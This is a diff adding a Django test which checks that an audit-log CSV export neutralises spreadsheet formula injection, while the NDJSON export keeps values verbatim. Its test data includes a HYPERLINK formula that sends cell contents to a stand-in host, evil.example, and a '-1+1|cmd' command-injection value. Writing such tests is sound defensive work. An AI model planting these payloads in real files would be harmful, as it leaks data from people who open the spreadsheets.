@@ -154,3 +154,30 @@ def test_the_admin_report_page_is_for_auditors_and_operators(trail, audrey, alic
     user = Client()
     user.force_login(alice)
     assert user.get("/admin/audit/report/").status_code in {302, 403}
+
+
+FORMULA_AGENT = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+
+
+def test_a_planted_formula_is_exported_as_text_in_csv_and_verbatim_in_ndjson(alice, audrey, anon_client):
+    """A failed sign-in whose User-Agent is a spreadsheet formula: the auditor's CSV shows it as text."""
+    anon_client.post(
+        "/api/auth/token", {"username": "alice", "password": "wrong"}, format="json", HTTP_USER_AGENT=FORMULA_AGENT
+    )
+    audit_event_record(action="todo.created", actor=alice, target_type="todo", target_id="-1+1|cmd", data={"n": -1})
+    auditor = client_for(audrey)
+
+    rows = list(csv.DictReader(io.StringIO(_streamed(auditor.get("/api/audit/export?format=csv")))))
+    failed = next(row for row in rows if row["action"] == "auth.login_failed")
+    assert failed["user_agent"] == "'" + FORMULA_AGENT
+    todo = next(row for row in rows if row["action"] == "todo.created")
+    assert todo["target_id"] == "'-1+1|cmd" and json.loads(todo["data"]) == {"n": -1}
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+
+    lines = [json.loads(line) for line in _streamed(auditor.get("/api/audit/export?format=ndjson")).splitlines()]
+    assert next(line for line in lines if line["action"] == "auth.login_failed")["user_agent"] == FORMULA_AGENT
+
+
+def _streamed(response) -> str:
+    assert response.status_code == 200
+    return b"".join(response.streaming_content).decode()
